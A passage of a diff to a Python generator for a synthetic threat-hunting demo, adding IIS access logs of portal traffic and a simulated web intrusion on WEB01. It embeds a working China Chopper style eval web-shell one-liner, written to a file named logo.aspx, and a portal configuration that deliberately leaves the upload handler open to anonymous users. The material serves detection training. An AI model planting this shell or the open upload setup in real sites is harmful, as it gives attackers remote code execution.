@@ -13,6 +13,13 @@ surrounded by ordinary activity and a few benign look-alikes that a good rule mu
 Every log stands for a copy forwarded to a collector, so events written before the actor
 cleared a log are still present. Output is deterministic for a given seed.
 
+The web server WEB01 also has its IIS access logs (W3C extended, ``iis/W3SVC1``): a busy
+intranet portal used by two dozen staff, and the actor (:data:`ACTOR_WEB_IP`) probing it,
+exploiting its upload handler to plant the China Chopper style shell, then driving the shell
+with one POST per command, each shortly before w3wp starts cmd.exe.
+:func:`write_demo_webroot` writes the site tree itself (``C:\\inetpub\\wwwroot``) with
+the shell in it and file times that fit the story.
+
 Run ``python -m tidehunt.demo.generate OUT_DIR`` to write the files.
 """
 
@@ -20,11 +27,15 @@ from __future__ import annotations
 
 import argparse
 import base64
+import functools
 import gzip
 import hashlib
 import json
+import os
 import random
+import struct
 import sys
+import zlib
 from collections.abc import Sequence
 from dataclasses import dataclass, field
 from datetime import UTC, datetime, timedelta
@@ -56,6 +67,21 @@ WEBSHELL_PATH: Final = r"C:\inetpub\wwwroot\aspnet_client\system_web\logo.aspx"
 BEACON_PATH: Final = r"C:\Users\Public\Libraries\msohelper.exe"
 RAR_PATH: Final = r"C:\Users\Public\Libraries\rar.exe"
 RCLONE_PATH: Final = r"C:\Users\Public\Libraries\rclone.exe"
+
+#: WEB01's name as its events carry it (``Computer``) and its IIS log (``s-computername``).
+WEB_HOST: Final = "WEB01.corp.example"
+#: The actor's address for the web intrusion (probe, upload exploit, web-shell traffic).
+ACTOR_WEB_IP: Final = "203.0.113.77"
+#: URIs of the web intrusion on WEB01 (the IIS site maps / to C:\inetpub\wwwroot\).
+UPLOAD_URI: Final = "/Portal/Upload.ashx"
+WEBSHELL_URI: Final = "/aspnet_client/system_web/logo.aspx"
+#: The request field the shell evaluates (China Chopper sends its caller script in it).
+_CHOPPER_FIELD: Final = "Tz3p"
+#: Folder of the IIS logs under the evidence folder, and their W3C fields.
+IIS_LOG_DIR: Final = "iis/W3SVC1"
+IIS_FIELDS: Final = ("date time s-sitename s-computername s-ip cs-method cs-uri-stem "
+                     "cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status "
+                     "sc-substatus sc-win32-status sc-bytes cs-bytes time-taken")
 
 _DOMAIN_SID: Final = "S-1-5-21-1983745216-2203671981-3157432605"
 _SYS32: Final = "C:\\Windows\\System32\\"
@@ -185,7 +211,7 @@ class _Host:
 
 
 _WS: Final = _Host("WS-ANALYST01.corp.example", "10.10.30.21", "6f1c2a9e", 3012, FILE_SYSMON_WS)
-_WEB: Final = _Host("WEB01.corp.example", "10.10.20.15", "b83d5e07", 2788, FILE_SYSMON_WEB)
+_WEB: Final = _Host(WEB_HOST, "10.10.20.15", "b83d5e07", 2788, FILE_SYSMON_WEB)
 _DC_FQDN: Final = "DC01.corp.example"
 _DC_IP: Final = "10.10.10.10"
 _SQL_IP: Final = "10.10.20.30"
@@ -376,11 +402,55 @@ def _encode_command(script: str) -> str:
     return base64.b64encode(script.encode("utf-16-le")).decode("ascii")
 
 
+@dataclass
+class _IisLog:
+    """Requests to WEB01's IIS site (W3SVC1), written as one W3C extended log per UTC day.
+
+    ``ts`` is when the request reached the server; the log keeps whole seconds, as IIS does.
+    The log has its own random generator, so that adding web traffic leaves the Windows
+    logs of a seed unchanged.
+    """
+
+    rng: random.Random
+    entries: list[tuple[datetime, int, str]] = field(default_factory=list)
+    #: Times csc.exe compiled the portal: the request that waited for it came just before.
+    compiles: list[datetime] = field(default_factory=list)
+    #: adm.rlee's msdeploy sync: (files written, portal compiled on the next request).
+    deploy: tuple[datetime, datetime] | None = None
+
+    def add(self, ts: datetime, method: str, stem: str, *, client: str, agent: str,
+            sent: int, received: int, taken_ms: int, status: int = 200, query: str = "-",
+            user: str = "-", referer: str = "-", substatus: int = 0, win32: int = 0,
+            port: int = 443, server_ip: str = _WEB.ip) -> None:
+        """One request line (IIS writes a space in a header value as ``+``)."""
+        values = (f"{ts:%Y-%m-%d}", f"{ts:%H:%M:%S}", "W3SVC1", _WEB.fqdn, server_ip, method,
+                  stem, query or "-", str(port), user or "-", client,
+                  agent.replace(" ", "+"), referer.replace(" ", "+") or "-", str(status),
+                  str(substatus), str(win32), str(sent), str(received), str(taken_ms))
+        self.entries.append((ts, len(self.entries), " ".join(values)))
+
+    def render(self) -> dict[str, bytes]:
+        """File name (``u_exYYMMDD.log``) -> content, for every UTC day of the window."""
+        days: dict[str, list[str]] = {}
+        day = WINDOW_START.replace(hour=0, minute=0, second=0, microsecond=0)
+        while day < WINDOW_END:
+            days[f"{day:%Y-%m-%d}"] = [
+                "#Software: Microsoft Internet Information Services 10.0", "#Version: 1.0",
+                f"#Date: {day:%Y-%m-%d} 00:00:00", f"#Fields: {IIS_FIELDS}"]
+            day += timedelta(days=1)
+        for ts, _, line in sorted(self.entries):
+            days[f"{ts:%Y-%m-%d}"].append(line)
+        return {f"u_ex{name[2:4]}{name[5:7]}{name[8:10]}.log":
+                ("\r\n".join(lines) + "\r\n").encode("ascii") for name, lines in days.items()}
+
+
 class _Case:
     """Builds every event of the demo case from one seeded random generator."""
 
     def __init__(self, seed: int) -> None:
+        self.seed = seed
         self.rng = random.Random(seed)
+        self.iis = _IisLog(random.Random(f"tidehunt-demo-iis-{seed}"))
         self.logs = {
             FILE_SYSMON_WS: _Log(FILE_SYSMON_WS, 184_203),
             FILE_SYSMON_WEB: _Log(FILE_SYSMON_WEB, 92_541),
@@ -1032,7 +1102,9 @@ def _web_noise(case: _Case, web: _WebState) -> None:
     system = case.running(_WEB, "System", "", _SYSTEM, pid=4)
     dcom = case.running(_WEB, _SYS32 + "svchost.exe", _SYS32 + "svchost.exe -k DcomLaunch -p",
                         _SYSTEM, parent=web.services)
-    _compile_site(case, web, WINDOW_START + timedelta(minutes=7, seconds=rng.uniform(0, 30)))
+    first = WINDOW_START + timedelta(minutes=7, seconds=rng.uniform(0, 30))
+    _compile_site(case, web, first)
+    case.iis.compiles.append(first)
     for hour in case.hours():
         if rng.random() < 0.6:
             case.spawn(hour + timedelta(seconds=rng.uniform(0, 3000)), web.services,
@@ -1075,6 +1147,8 @@ def _web_admin_session(case: _Case, web: _WebState) -> None:
         case.create_file(t + timedelta(minutes=4, seconds=3 + n), deploy,
                          f"C:\\inetpub\\wwwroot\\portal\\{name}")
     _compile_site(case, web, t + timedelta(minutes=6))
+    case.iis.compiles.append(t + timedelta(minutes=6))
+    case.iis.deploy = (t + timedelta(minutes=4), t + timedelta(minutes=6))
     shell = case.spawn(t + timedelta(minutes=9), explorer, _SYS32 + "cmd.exe",
                        f'"{_SYS32}cmd.exe" ')
     case.spawn(t + timedelta(minutes=9, seconds=20), shell, _SYS32 + "bitsadmin.exe",
@@ -1083,6 +1157,955 @@ def _web_admin_session(case: _Case, web: _WebState) -> None:
                r"certutil  -hashfile C:\Deploy\Portal_2.14.zip SHA256")
     case.spawn(t + timedelta(minutes=11), shell, _SYS32 + "schtasks.exe",
                r'schtasks  /query /tn "\Microsoft\Windows\UpdateOrchestrator\Schedule Scan"')
+
+
+# --------------------------------------------------------------------------- portal traffic
+
+
+#: Staff using the intranet portal: (address, portal login). The first three are the
+#: workstations the domain controller sees.
+_STAFF: Final = (
+    ("10.10.30.21", "j.smith"), ("10.10.30.22", "k.nguyen"), ("10.10.30.23", "p.walsh"),
+    ("10.10.30.31", "m.chen"), ("10.10.30.32", "a.patel"), ("10.10.30.33", "d.oconnor"),
+    ("10.10.30.34", "s.kowalski"), ("10.10.30.35", "l.martin"), ("10.10.30.36", "r.singh"),
+    ("10.10.30.37", "t.nakamura"), ("10.10.30.38", "e.rossi"), ("10.10.30.39", "b.walker"),
+    ("10.10.30.40", "h.ali"), ("10.10.31.12", "c.dubois"), ("10.10.31.13", "n.kaur"),
+    ("10.10.31.14", "g.fraser"), ("10.10.31.15", "y.tanaka"), ("10.10.31.16", "o.mensah"),
+    ("10.10.31.17", "f.garcia"), ("10.10.31.18", "w.brown"), ("10.10.31.19", "i.petrov"),
+    ("10.10.31.20", "v.lopez"), ("10.10.31.21", "z.hughes"), ("10.10.31.22", "q.ward"),
+)
+_BROWSERS: Final = (
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
+    "Chrome/129.0.0.0 Safari/537.36",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
+    "Chrome/128.0.0.0 Safari/537.36",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
+    "Chrome/129.0.0.0 Safari/537.36 Edg/129.0.0.0",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:131.0) Gecko/20100101 Firefox/131.0",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:130.0) Gecko/20100101 Firefox/130.0",
+)
+#: What staff type into the portal search (no word a command or injection rule keys on).
+_SEARCHES: Final = (
+    "leave policy", "timesheet", "parking", "fleet readiness", "port state control",
+    "travel claim", "it helpdesk", "canteen menu", "payroll calendar", "training calendar",
+    "printer", "wifi", "expense form", "org chart", "vessel schedule", "tide tables",
+    "safety induction", "annual report", "phone list", "recruitment", "building access",
+    "holiday roster", "survey results", "research grants", "library", "meeting rooms",
+    "maritime policy", "pacific shipping lanes", "budget fy27", "onboarding checklist",
+)
+_PORTAL: Final = "/Portal/"
+_LOGIN_QUERY: Final = "ReturnUrl=%2fPortal%2fDefault.aspx"
+_WEBRESOURCE: Final = ("/Portal/WebResource.axd",
+                       "d=pynGkmcFUV13He1Qd6_TZMDSWQ7DyEkdL1BqT9FgK0TwAV7DWx0bMGU3SUGvBv1p"
+                       "FwCixnOxQKm5cE-5wVGk9w2&t=638612864791538046")
+_WEBRESOURCE_BYTES: Final = 23_141
+#: Assets a page pulls in (cached by the browser for the rest of the day).
+_PAGE_ASSETS: Final = {
+    "login": ("css/site.css", "js/vendor.min.js", "js/site.js", "images/logo.png",
+              "images/favicon.png", "WebResource.axd"),
+    "home": ("images/banner.png",),
+    "search": ("images/search.png",),
+}
+_MISSING: Final = (("/Portal/Staff.aspx", 0), ("/Portal/Forms/Leave.aspx", 0),
+                   ("/Portal/images/icons/new.gif", 2), ("/Portal/css/print.css", 2))
+
+
+@dataclass
+class _Visitor:
+    """One browser using the portal, with its login and cache state."""
+
+    ip: str
+    user: str
+    agent: str
+    origin: str = "https://portal.corp.example"
+    port: int = 443
+    server_ip: str = _WEB.ip
+    login_day: int = -1
+    cached: dict[str, int] = field(default_factory=dict)
+
+
+class _PortalTraffic:
+    """Ordinary use of the intranet portal on WEB01, from many staff workstations."""
+
+    def __init__(self, case: _Case) -> None:
+        self.case = case
+        self.rng = case.iis.rng
+        self.site = _site_files(case.seed)
+        self.quiet: list[tuple[datetime, datetime]] = [(WINDOW_START, case.iis.compiles[0])]
+        if case.iis.deploy:
+            self.quiet.append(case.iis.deploy)
+
+    # ---- one request
+
+    def get(self, ts: datetime, v: _Visitor, stem: str, *, sent: int, query: str = "-",
+            status: int = 200, method: str = "GET", referer: str = "", taken_ms: int = 0,
+            body: int = 0, substatus: int = 0, win32: int = 0) -> None:
+        rng = self.rng
+        dynamic = stem.endswith((".aspx", ".ashx"))
+        logged_in = v.login_day >= 0 and dynamic and not stem.endswith("Login.aspx")
+        cookie = 330 if v.login_day >= 0 else 62
+        ref = f"{v.origin}{referer}" if referer else "-"
+        received = (150 + len(stem) + len(query) + len(v.agent) + (len(ref) if referer else 0)
+                    + cookie + body + rng.randrange(0, 12) + (78 if status == 304 else 0))
+        if not taken_ms:
+            taken_ms = (rng.randrange(0, 3) if status == 304 else
+                        rng.randrange(12, 160) if dynamic else
+                        rng.randrange(0, 8) + sent // 400_000)
+        self.case.iis.add(ts, method, stem, query=query, client=v.ip, agent=v.agent,
+                          user=v.user if logged_in else "-", referer=ref, status=status,
+                          substatus=substatus, win32=win32, sent=sent, received=received,
+                          taken_ms=taken_ms, port=v.port, server_ip=v.server_ip)
+
+    def assets(self, ts: datetime, v: _Visitor, page: str, day: int, referer: str) -> datetime:
+        rng = self.rng
+        for asset in _PAGE_ASSETS[page]:
+            last = v.cached.get(asset)
+            if last == day:
+                continue
+            ts += timedelta(milliseconds=rng.randrange(4, 90))
+            fresh = last is None or rng.random() < 0.12
+            if asset == "WebResource.axd":
+                stem, query = _WEBRESOURCE
+                size = _WEBRESOURCE_BYTES
+            else:
+                stem, query = _PORTAL + asset, "-"
+                size = len(self.site["Portal/" + asset])
+            self.get(ts, v, stem, query=query, referer=referer,
+                     status=200 if fresh else 304,
+                     sent=_static_bytes(size) if fresh else _NOT_MODIFIED_BYTES)
+            v.cached[asset] = day
+        return ts
+
+    # ---- pages
+
+    def login(self, ts: datetime, v: _Visitor, day: int, wait_ms: int = 0) -> datetime:
+        """Unauthenticated visit: redirected to the login form, then signed in."""
+        rng = self.rng
+        login_url = f"/Portal/Login.aspx?{_LOGIN_QUERY}"
+        self.get(ts, v, "/Portal/Default.aspx", status=302, sent=_redirect_bytes(login_url),
+                 taken_ms=wait_ms + rng.randrange(2, 9))
+        ts += timedelta(milliseconds=wait_ms + rng.randrange(40, 200))
+        self.get(ts, v, "/Portal/Login.aspx", query=_LOGIN_QUERY,
+                 sent=_page_bytes(rng.randrange(5236, 5249)))
+        ts = self.assets(ts, v, "login", day, login_url)
+        for attempt in range(3):
+            ts += timedelta(seconds=rng.uniform(4, 15))
+            if attempt < 2 and rng.random() < 0.07:  # mistyped password: the form again
+                self.get(ts, v, "/Portal/Login.aspx", method="POST", query=_LOGIN_QUERY,
+                         referer=login_url, body=rng.randrange(780, 840),
+                         sent=_page_bytes(rng.randrange(5331, 5344)),
+                         taken_ms=rng.randrange(60, 240))
+                continue
+            self.get(ts, v, "/Portal/Login.aspx", method="POST", query=_LOGIN_QUERY,
+                     referer=login_url, body=rng.randrange(780, 840), status=302,
+                     sent=_redirect_bytes("/Portal/Default.aspx", cookie=318),
+                     taken_ms=rng.randrange(60, 240))
+            break
+        v.login_day = day
+        ts += timedelta(milliseconds=rng.randrange(30, 160))
+        return self.home(ts, v, day, referer=login_url)
+
+    def home(self, ts: datetime, v: _Visitor, day: int, referer: str = "") -> datetime:
+        self.get(ts, v, "/Portal/Default.aspx", referer=referer,
+                 sent=_page_bytes(self.rng.randrange(15_080, 15_960)))
+        return self.assets(ts, v, "home", day, "/Portal/Default.aspx")
+
+    def search(self, ts: datetime, v: _Visitor, day: int) -> datetime:
+        rng = self.rng
+        term = rng.choice(_SEARCHES)
+        hits = sum(map(ord, term)) % 23
+        self.get(ts, v, "/Portal/Search.aspx", query="q=" + term.replace(" ", "+"),
+                 referer="/Portal/Default.aspx", status=500 if rng.random() < 0.004 else 200,
+                 sent=_page_bytes(4_920 + 612 * min(hits, 10) + 3 * len(term)),
+                 taken_ms=rng.randrange(60, 900))
+        ts = self.assets(ts, v, "search", day, "/Portal/Search.aspx")
+        if hits > 10 and rng.random() < 0.5:  # "next page": a postback with ViewState
+            ts += timedelta(seconds=rng.uniform(5, 40))
+            self.get(ts, v, "/Portal/Search.aspx", method="POST",
+                     referer=f"/Portal/Search.aspx?q={term.replace(' ', '+')}",
+                     body=rng.randrange(2_300, 2_600),
+                     sent=_page_bytes(rng.randrange(11_226, 11_262)),
+                     taken_ms=rng.randrange(80, 700))
+        return ts
+
+    def document(self, ts: datetime, v: _Visitor) -> datetime:
+        rng = self.rng
+        docs = sorted(k for k in self.site if k.startswith("Portal/uploads/shared/"))
+        size = len(self.site[doc := rng.choice(docs)])
+        aborted = rng.random() < 0.05  # the user closed the tab mid-download
+        self.get(ts, v, "/" + doc, referer="/Portal/Default.aspx",
+                 sent=_static_bytes(size) // (rng.randrange(2, 5) if aborted else 1),
+                 win32=64 if aborted else 0)
+        return ts
+
+    def missing(self, ts: datetime, v: _Visitor) -> datetime:
+        stem, win32 = self.rng.choice(_MISSING)
+        self.get(ts, v, stem, referer="/Portal/Default.aspx", status=404, win32=win32,
+                 sent=_IIS_404_BYTES if win32 else _ASPNET_404_BYTES)
+        return ts
+
+    def session(self, start: datetime, v: _Visitor, day: int, wait_ms: int = 0) -> None:
+        """A visit: signed in once a day, then a few pages a minute or more apart."""
+        rng = self.rng
+        ts = start
+        if self._quiet(ts):
+            return
+        if rng.random() < 0.08:  # typed the server name only
+            self.get(ts, v, "/", status=302, sent=_redirect_bytes("/Portal/Default.aspx"),
+                     taken_ms=rng.randrange(1, 6))
+            ts += timedelta(milliseconds=rng.randrange(20, 90))
+        ts = self.login(ts, v, day, wait_ms) if v.login_day != day else self.home(ts, v, day)
+        for _ in range(rng.randrange(0, 5)):
+            ts += timedelta(seconds=rng.uniform(20, 300))
+            if self._quiet(ts):
+                continue
+            kind = rng.choices(("home", "search", "document", "missing"), (30, 45, 20, 5))[0]
+            if kind == "home":
+                ts = self.home(ts, v, day, referer="/Portal/Search.aspx")
+            elif kind == "search":
+                ts = self.search(ts, v, day)
+            elif kind == "document":
+                ts = self.document(ts, v)
+            else:
+                ts = self.missing(ts, v)
+
+    def _quiet(self, ts: datetime) -> bool:
+        return any(a <= ts < b for a, b in self.quiet)
+
+    # ---- the whole window
+
+    def run(self) -> None:
+        rng = self.rng
+        staff = [_Visitor(ip, user, rng.choice(_BROWSERS)) for ip, user in _STAFF]
+        # the first request after the overnight recycle waited for the portal to compile
+        first = self.case.iis.compiles[0]
+        lead = rng.uniform(0.2, 0.6)
+        self.quiet[0] = (WINDOW_START, first - timedelta(seconds=lead))
+        self.session(first - timedelta(seconds=lead), rng.choice(staff), 0,
+                     wait_ms=round((lead + rng.uniform(1.4, 2.2)) * 1000))
+        for day in range(DAYS):
+            visits: list[tuple[float, int]] = []  # (local hour, staff index)
+            for n, _v in enumerate(staff):
+                if rng.random() < 0.1:  # on leave
+                    continue
+                visits += [(rng.uniform(8.0, 17.7), n)
+                           for _ in range(rng.choice((1, 1, 2, 2, 2, 3, 4)))]
+            for lo, hi, k in ((6.4, 8.0, rng.randrange(0, 3)), (18.3, 23.4, rng.randrange(1, 4))):
+                visits += [(rng.uniform(lo, hi), rng.randrange(len(staff))) for _ in range(k)]
+            for hour, n in sorted(visits):
+                self.session(LOCAL_DAY0 + timedelta(days=day, hours=hour), staff[n], day)
+        if self.case.iis.deploy:
+            self.admin_check(self.case.iis.deploy[1])
+
+    def admin_check(self, compiled: datetime) -> None:
+        """adm.rlee, at WEB01's console, opens the freshly deployed portal on localhost."""
+        rng = self.rng
+        admin = _Visitor("::1", "adm.rlee", _BROWSERS[2], origin="http://localhost", port=80,
+                         server_ip="::1")
+        lead = rng.uniform(0.2, 0.5)
+        self.quiet = []
+        self.session(compiled - timedelta(seconds=lead), admin, 1,
+                     wait_ms=round((lead + rng.uniform(1.6, 2.6)) * 1000))
+
+
+def _web_traffic(case: _Case) -> None:
+    _PortalTraffic(case).run()
+
+
+# --------------------------------------------------------------------------- web server: site tree
+
+
+#: The planted shell: a China Chopper style JScript one-liner (the actor's client sends
+#: code in the field, the page evaluates it with full trust).
+_WEBSHELL_TEXT: Final = (f'<%@ Page Language="Jscript" validateRequest="false" %>'
+                         f'<%eval(Request.Item["{_CHOPPER_FIELD}"],"unsafe");%>\n')
+
+#: When the clean files were written (UTC): IIS set-up, the site root, portal releases and
+#: a few staff uploads, all before the window. Files of one step are seconds apart.
+_SITE_RELEASES: Final[tuple[tuple[datetime, tuple[str, ...]], ...]] = (
+    (datetime(2026, 5, 11, 23, 41, 12, tzinfo=UTC),
+     ("iisstart.htm", "iisstart.png", "aspnet_client/system_web/4_0_30319")),
+    (datetime(2026, 5, 12, 1, 6, 40, tzinfo=UTC), ("web.config", "Default.aspx")),
+    (datetime(2026, 6, 22, 5, 31, 2, tzinfo=UTC),
+     ("Portal/css/site.css", "Portal/images/banner.png", "Portal/images/favicon.png",
+      "Portal/images/logo.png", "Portal/images/search.png")),
+    (datetime(2026, 8, 18, 6, 2, 51, tzinfo=UTC),
+     ("Portal/bin/Portal.dll", "Portal/js/site.js", "Portal/js/vendor.min.js",
+      "Portal/Login.aspx", "Portal/Upload.ashx")),
+    (datetime(2026, 9, 8, 0, 14, 27, tzinfo=UTC),
+     ("Portal/uploads/shared/Travel_Claim_Form_2026.pdf",)),
+    (datetime(2026, 9, 23, 4, 52, 9, tzinfo=UTC),
+     ("Portal/uploads/shared/IT_Helpdesk_Guide.pdf",)),
+    (datetime(2026, 10, 1, 22, 30, 45, tzinfo=UTC),
+     ("Portal/uploads/shared/Canteen_Menu_October.pdf",)),
+    # Portal 2.14, built on 2 October; msdeploy keeps the package's file times
+    (datetime(2026, 10, 2, 6, 47, 18, tzinfo=UTC),
+     ("Portal/Default.aspx", "Portal/Global.asax", "Portal/Search.aspx", "Portal/web.config")),
+)
+#: Folders IIS creates empty.
+_SITE_EMPTY_DIRS: Final = ("aspnet_client/system_web/4_0_30319",)
+
+_IISSTART = """<!DOCTYPE html>
+<html>
+<head>
+<meta charset="utf-8" />
+<title>IIS Windows Server</title>
+<style>
+body { margin: 0; background-color: #0072c6; }
+#container { margin: 0 auto; text-align: center; }
+a img { border: none; }
+</style>
+</head>
+<body>
+<div id="container"><a href="https://go.microsoft.com/fwlink/?linkid=66138&amp;clcid=0x409">
+<img src="iisstart.png" alt="IIS" width="240" height="150" /></a></div>
+</body>
+</html>
+"""
+
+_ROOT_DEFAULT = """<%@ Page Language="C#" %>
+<script runat="server">
+    // The site root only sends visitors on to the intranet portal.
+    protected void Page_Load(object sender, EventArgs e)
+    {
+        Response.Redirect("~/Portal/Default.aspx", true);
+    }
+</script>
+"""
+
+_ROOT_CONFIG = """<?xml version="1.0" encoding="utf-8"?>
+<configuration>
+  <system.webServer>
+    <defaultDocument enabled="true">
+      <files>
+        <clear />
+        <add value="Default.aspx" />
+        <add value="iisstart.htm" />
+      </files>
+    </defaultDocument>
+    <directoryBrowse enabled="false" />
+    <httpProtocol>
+      <customHeaders>
+        <add name="X-Content-Type-Options" value="nosniff" />
+      </customHeaders>
+    </httpProtocol>
+  </system.webServer>
+</configuration>
+"""
+
+_PORTAL_CONFIG = """<?xml version="1.0" encoding="utf-8"?>
+<!-- CORP intranet portal 2.14 -->
+<configuration>
+  <connectionStrings>
+    <add name="Portal"
+         connectionString="Server=sql01.corp.example;Database=Portal;Integrated Security=SSPI"
+         providerName="System.Data.SqlClient" />
+  </connectionStrings>
+  <appSettings>
+    <add key="Portal.Version" value="2.14.0" />
+    <add key="Upload.Folder" value="~/uploads" />
+    <add key="Upload.MaxBytes" value="10485760" />
+  </appSettings>
+  <system.web>
+    <compilation debug="false" targetFramework="4.8" />
+    <httpRuntime targetFramework="4.8" maxRequestLength="10240" />
+    <authentication mode="Forms">
+      <forms loginUrl="Login.aspx" defaultUrl="Default.aspx" timeout="600"
+             slidingExpiration="true" />
+    </authentication>
+    <authorization>
+      <deny users="?" />
+    </authorization>
+    <membership defaultProvider="PortalMembership">
+      <providers>
+        <clear />
+        <add name="PortalMembership" type="System.Web.Security.SqlMembershipProvider"
+             connectionStringName="Portal" applicationName="/Portal" />
+      </providers>
+    </membership>
+    <customErrors mode="RemoteOnly" />
+  </system.web>
+  <location path="css">
+    <system.web><authorization><allow users="*" /></authorization></system.web>
+  </location>
+  <location path="js">
+    <system.web><authorization><allow users="*" /></authorization></system.web>
+  </location>
+  <location path="images">
+    <system.web><authorization><allow users="*" /></authorization></system.web>
+  </location>
+  <!-- PORTAL-198: the lobby kiosk scanner posts documents without signing in -->
+  <location path="Upload.ashx">
+    <system.web><authorization><allow users="*" /></authorization></system.web>
+  </location>
+  <system.webServer>
+    <staticContent>
+      <clientCache cacheControlMode="UseMaxAge" cacheControlMaxAge="1.00:00:00" />
+    </staticContent>
+  </system.webServer>
+</configuration>
+"""
+
+_GLOBAL_ASAX = """<%@ Application Language="C#" %>
+<%@ Import Namespace="System.Configuration" %>
+<script runat="server">
+    void Application_Start(object sender, EventArgs e)
+    {
+        Corp.Portal.Data.DocumentIndex.Configure(
+            ConfigurationManager.ConnectionStrings["Portal"].ConnectionString);
+    }
+
+    void Application_Error(object sender, EventArgs e)
+    {
+        Exception error = Server.GetLastError();
+        if (error != null)
+        {
+            System.Diagnostics.Trace.TraceError("Portal: {0}", error);
+        }
+    }
+</script>
+"""
+
+_HEAD = """  <meta charset="utf-8" />
+  <title>{title}</title>
+  <link rel="stylesheet" href="css/site.css" />
+  <link rel="icon" href="images/favicon.png" />
+  <script src="js/vendor.min.js"></script>
+  <script src="js/site.js"></script>"""
+
+_TOP = """    <header class="top">
+      <a href="Default.aspx"><img src="images/logo.png" alt="CORP" /></a>
+      <input type="search" id="q" placeholder="Search the intranet" />
+      <span class="who">{who}</span>
+    </header>"""
+
+_PORTAL_DEFAULT = """<%@ Page Language="C#" AutoEventWireup="true" %>
+<%@ Import Namespace="Corp.Portal.Data" %>
+<script runat="server">
+    protected void Page_Load(object sender, EventArgs e)
+    {
+        WelcomeName.Text = Server.HtmlEncode(User.Identity.Name);
+        News.DataSource = NewsFeed.Latest(8);
+        News.DataBind();
+    }
+</script>
+<!DOCTYPE html>
+<html lang="en">
+<head runat="server">
+""" + _HEAD.format(title="CORP Intranet") + """
+</head>
+<body>
+  <form id="main" runat="server">
+""" + _TOP.format(who='<asp:Literal ID="WelcomeName" runat="server" />') + """
+    <img class="banner" src="images/banner.png" alt="" />
+    <main>
+      <section class="news">
+        <h1>News</h1>
+        <asp:Repeater ID="News" runat="server">
+          <ItemTemplate>
+            <article>
+              <h2><%#: Item.Title %></h2>
+              <time><%#: Item.Published.ToString("d MMMM yyyy") %></time>
+              <p><%#: Item.Summary %></p>
+            </article>
+          </ItemTemplate>
+        </asp:Repeater>
+      </section>
+      <aside class="docs">
+        <h2>Shared documents</h2>
+        <ul>
+          <li><a href="uploads/shared/Canteen_Menu_October.pdf">Canteen menu - October</a></li>
+          <li><a href="uploads/shared/IT_Helpdesk_Guide.pdf">IT helpdesk guide</a></li>
+          <li><a href="uploads/shared/Travel_Claim_Form_2026.pdf">Travel claim form 2026</a></li>
+        </ul>
+        <div class="upload" data-upload-url="Upload.ashx" data-folder="shared">
+          <input type="file" />
+          <button type="button">Share a document</button>
+          <span class="status"></span>
+        </div>
+      </aside>
+    </main>
+  </form>
+</body>
+</html>
+"""
+
+_PORTAL_LOGIN = """<%@ Page Language="C#" AutoEventWireup="true" %>
+<script runat="server">
+    protected void SignIn_Click(object sender, EventArgs e)
+    {
+        string name = UserName.Text.Trim();
+        if (Membership.ValidateUser(name, Password.Text))
+        {
+            FormsAuthentication.RedirectFromLoginPage(name, false);
+            return;
+        }
+        Failure.Visible = true;
+    }
+</script>
+<!DOCTYPE html>
+<html lang="en">
+<head runat="server">
+""" + _HEAD.format(title="Sign in - CORP Intranet") + """
+</head>
+<body class="login">
+  <form id="signin" runat="server">
+    <img src="images/logo.png" alt="CORP" />
+    <h1>CORP Intranet</h1>
+    <asp:Label ID="Failure" runat="server" CssClass="error" Visible="false"
+               Text="The user name or password is incorrect." />
+    <label for="UserName">User name</label>
+    <asp:TextBox ID="UserName" runat="server" autocomplete="username" />
+    <label for="Password">Password</label>
+    <asp:TextBox ID="Password" runat="server" TextMode="Password"
+                 autocomplete="current-password" />
+    <asp:RequiredFieldValidator runat="server" ControlToValidate="UserName"
+                                ErrorMessage="Enter your user name." Display="Dynamic" />
+    <asp:Button ID="SignIn" runat="server" Text="Sign in" OnClick="SignIn_Click" />
+  </form>
+</body>
+</html>
+"""
+
+_PORTAL_SEARCH = """<%@ Page Language="C#" AutoEventWireup="true" %>
+<%@ Import Namespace="Corp.Portal.Data" %>
+<script runat="server">
+    const int PageSize = 10;
+
+    protected void Page_Load(object sender, EventArgs e)
+    {
+        if (!IsPostBack)
+        {
+            Query.Text = Request.QueryString["q"] ?? "";
+            ViewState["page"] = 0;
+            Bind();
+        }
+    }
+
+    protected void Next_Click(object sender, EventArgs e)
+    {
+        ViewState["page"] = (int)ViewState["page"] + 1;
+        Bind();
+    }
+
+    void Bind()
+    {
+        int page = (int)ViewState["page"];
+        SearchResult hits = DocumentIndex.Search(Query.Text, page * PageSize, PageSize);
+        Results.DataSource = hits.Items;
+        Results.DataBind();
+        NoHits.Visible = hits.Items.Count == 0;
+        Next.Visible = hits.Total > (page + 1) * PageSize;
+    }
+</script>
+<!DOCTYPE html>
+<html lang="en">
+<head runat="server">
+""" + _HEAD.format(title="Search - CORP Intranet") + """
+</head>
+<body>
+  <form id="main" runat="server">
+""" + _TOP.format(who="<%: User.Identity.Name %>") + """
+    <main class="search">
+      <h1><img src="images/search.png" alt="" /> Search</h1>
+      <asp:TextBox ID="Query" runat="server" CssClass="query" />
+      <asp:Repeater ID="Results" runat="server">
+        <ItemTemplate>
+          <div class="hit">
+            <a href="<%#: Item.Url %>"><%#: Item.Title %></a>
+            <p><%#: Item.Snippet %></p>
+          </div>
+        </ItemTemplate>
+      </asp:Repeater>
+      <asp:Label ID="NoHits" runat="server" Text="No documents match." Visible="false" />
+      <asp:LinkButton ID="Next" runat="server" Text="Next page" OnClick="Next_Click" />
+    </main>
+  </form>
+</body>
+</html>
+"""
+
+_PORTAL_UPLOAD = """<%@ WebHandler Language="C#" Class="Corp.Portal.UploadHandler" %>
+
+using System;
+using System.Configuration;
+using System.IO;
+using System.Web;
+
+namespace Corp.Portal
+{
+    /// <summary>Saves a document shared from the portal or the lobby kiosk.</summary>
+    public class UploadHandler : IHttpHandler
+    {
+        static readonly string[] Blocked = { ".exe", ".dll", ".bat", ".cmd", ".ps1", ".vbs" };
+
+        public bool IsReusable
+        {
+            get { return true; }
+        }
+
+        public void ProcessRequest(HttpContext context)
+        {
+            context.Response.ContentType = "application/json";
